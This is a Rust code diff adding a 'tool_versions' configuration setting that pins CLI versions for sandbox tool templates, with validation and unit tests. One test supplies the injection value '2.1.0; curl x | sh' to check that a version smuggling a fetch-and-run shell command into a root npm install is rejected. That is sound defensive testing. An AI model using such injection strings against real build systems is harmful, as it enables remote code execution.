@@ -12,7 +12,7 @@ use std::net::SocketAddr;
 use std::path::{Path, PathBuf};
 
 use anyhow::{Context, Result, bail};
-use courier_tools::Secret;
+use courier_tools::{Secret, ToolId, registry};
 
 /// Where data lives unless a flag, `COURIER_DATA_DIR` or the config file says otherwise.
 pub const DEFAULT_DATA_DIR: &str = "./courier-data";
@@ -116,6 +116,11 @@ pub const KEYS: &[(&str, &str, &str)] = &[
         "COURIER_TEMPLATE_BUILD_TIMEOUT",
         "a positive whole number of seconds, at most 86400",
     ),
+    (
+        "tool_versions",
+        "COURIER_TOOL_VERSIONS",
+        "a table of CLI versions pinned instead of the registry's, e.g. { claude = \"2.1.332\" } (tools: claude, opencode, codex, pi; versions: npm versions or dist-tags)",
+    ),
 ];
 
 /// Live sandboxes (creating, running, paused) one user may have at once by default.
@@ -187,6 +192,9 @@ pub struct Settings {
     /// Deadline of a whole template build, seconds: the embedded courier-sandboxd's, and
     /// (plus a margin) how long a build is followed before it is recorded failed.
     pub template_build_timeout_secs: u64,
+    /// CLI versions the tool templates install instead of the registry's pins
+    /// (`tool_versions`, or `COURIER_TOOL_VERSIONS=claude=2.1.332,pi=0.73.1`).
+    pub tool_versions: Vec<(ToolId, String)>,
     /// The file read, and the keys it set (names only).
     pub file: Option<(PathBuf, Vec<String>)>,
 }
@@ -216,6 +224,7 @@ struct FileValues {
     max_sandboxes_per_project: Option<u32>,
     template_step_timeout: Option<u64>,
     template_build_timeout: Option<u64>,
+    tool_versions: Option<Vec<(ToolId, String)>>,
     strings: HashMap<&'static str, String>,
     envd_binary: Option<PathBuf>,
 }
@@ -356,6 +365,14 @@ pub fn resolve(over: Overrides) -> Result<Settings> {
         )?
         .or(file.template_build_timeout)
         .unwrap_or(DEFAULT_TEMPLATE_BUILD_TIMEOUT_SECS),
+        tool_versions: match env("COURIER_TOOL_VERSIONS") {
+            Some(v) => parse_tool_versions(v.split(',').filter(|p| !p.trim().is_empty()).map(|pair| {
+                let (tool, version) = pair.split_once('=').unwrap_or((pair, ""));
+                (tool.trim().to_owned(), Some(version.trim().to_owned()))
+            }))
+            .map_err(|e| anyhow::anyhow!("bad value for COURIER_TOOL_VERSIONS: {e}"))?,
+            None => file.tool_versions.unwrap_or_default(),
+        },
         file: path.map(|p| (p, file.keys)),
     })
 }
@@ -381,6 +398,25 @@ fn env_number(var: &str, key: &str, min: u64, max: u64) -> Result<Option<u64>> {
         .filter(|n| (min..=max).contains(n))
         .map(Some)
         .ok_or_else(|| anyhow::anyhow!("bad value for {var}: expected {expected}, got {text:?}"))
+}
+
+/// Checks `tool = version` pairs: a tool with an npm package, an npm version or dist-tag.
+fn parse_tool_versions(
+    pairs: impl Iterator<Item = (String, Option<String>)>,
+) -> std::result::Result<Vec<(ToolId, String)>, String> {
+    let mut out = Vec::new();
+    for (tool, version) in pairs {
+        let id: ToolId = tool.parse().map_err(|e| format!("{e}"))?;
+        if registry::spec(id).package.is_none() {
+            return Err(format!(
+                "{id} has no CLI to pin (tools with one: claude, opencode, codex, pi)"
+            ));
+        }
+        let version = version.unwrap_or_default();
+        registry::validate_cli_version(&version).map_err(|e| format!("{id}: {e}"))?;
+        out.push((id, version));
+    }
+    Ok(out)
 }
 
 fn parse_bool(text: &str) -> Option<bool> {
@@ -477,6 +513,18 @@ fn parse(text: &str, path: &Path) -> Result<FileValues> {
                 }
                 out.template_build_timeout = Some(secs);
             }
+            "tool_versions" => {
+                let table = value.as_table().ok_or_else(bad)?;
+                let pairs = table
+                    .iter()
+                    .map(|(k, v)| (k.clone(), v.as_str().map(str::to_owned)));
+                out.tool_versions = Some(parse_tool_versions(pairs).map_err(|e| {
+                    anyhow::anyhow!(
+                        "bad value for `tool_versions` in config file {}: {e}",
+                        path.display()
+                    )
+                })?);
+            }
             "database_url" => {
                 let url = text()?;
                 if !is_postgres(url) {
@@ -539,6 +587,7 @@ max_sandboxes_per_user = 5
 max_sandboxes_per_project = 0
 template_step_timeout = 600
 template_build_timeout = 1200
+tool_versions = { claude = "2.1.332", pi = "latest" }
 "#,
         )
         .unwrap();
@@ -560,7 +609,30 @@ template_build_timeout = 1200
         assert_eq!(v.max_sandboxes_per_project, Some(0));
         assert_eq!(v.template_step_timeout, Some(600));
         assert_eq!(v.template_build_timeout, Some(1200));
+        assert_eq!(
+            v.tool_versions.unwrap(),
+            [
+                (ToolId::Claude, "2.1.332".to_owned()),
+                (ToolId::Pi, "latest".to_owned())
+            ]
+        );
         assert_eq!(v.keys.len(), KEYS.len());
+    }
+
+    #[test]
+    fn a_pinned_version_must_be_a_version_of_a_tool_with_a_cli() {
+        // The version is spliced into a root `npm install` in the build sandbox.
+        let e = parse_err("tool_versions = { claude = \"2.1.0; curl x | sh\" }");
+        assert!(
+            e.contains("`tool_versions`") && e.contains("cli_version"),
+            "{e}"
+        );
+        let e = parse_err("tool_versions = { shell = \"1.0.0\" }");
+        assert!(e.contains("shell has no CLI to pin"), "{e}");
+        let e = parse_err("tool_versions = { gemini = \"1.0.0\" }");
+        assert!(e.contains("allowed values are claude"), "{e}");
+        let e = parse_err("tool_versions = { pi = 3 }");
+        assert!(e.contains("cli_version"), "{e}");
     }
 
     #[test]
